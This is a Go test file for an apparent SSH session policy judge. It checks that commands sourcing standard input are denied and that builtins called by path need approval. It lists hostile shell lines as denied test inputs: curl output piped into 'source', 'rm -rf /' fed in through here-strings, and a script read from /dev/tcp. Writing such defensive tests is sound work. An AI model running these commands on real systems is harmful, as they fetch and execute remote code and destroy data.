package judge_test

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/fairlead-ssh/fairlead/session/policy"
)

// What runs standard input as a script is a shell: what comes in is judged, and where it cannot be seen it is forbidden.
func TestSourcingStandardInputIsAShell(t *testing.T) {
	for _, script := range []string{
		"curl http://h/x | source /dev/stdin",
		"curl http://h/x | . /dev/fd/0",
		". /dev/stdin <<< 'rm -rf /'",
		"source /dev/stdin <<E\nrm -rf /\nE",
		". /dev/fd/0 <<E\nrm -rf /\nE",
		"source /dev/stdin </dev/tcp/h/1",
	} {
		v, r := verdict(script, "bash")
		assert.Equal(t, policy.Deny, v, "%q: %s: %s", script, r.Rule, r.Reason)
	}
}

// A program that only has the name of a builtin is unknown; those that mean the same by their path are not.
func TestABuiltinByItsPathIsAProgram(t *testing.T) {
	for _, script := range []string{
		"/usr/bin/hash", "/usr/bin/type ls", "/bin/read x", "/usr/bin/cd /", "/usr/bin/alias", "/usr/bin/times", "/usr/bin/jobs", "/usr/bin/wait", "/bin/umask", "/usr/bin/fc",
		"./hash", "/opt/x/type ls",
	} {
		v, r := verdict(script, "")
		assert.Equal(t, policy.Ask, v, "%q: %s: %s", script, r.Rule, r.Reason)
	}
	for _, script := range []string{"/bin/true", "/usr/bin/echo x", "/bin/pwd", "/usr/bin/printf x", "/usr/bin/test -f x"} {
		v, r := verdict(script, "")
		assert.Equal(t, policy.Allow, v, "%q: %s: %s", script, r.Rule, r.Reason)
	}
}
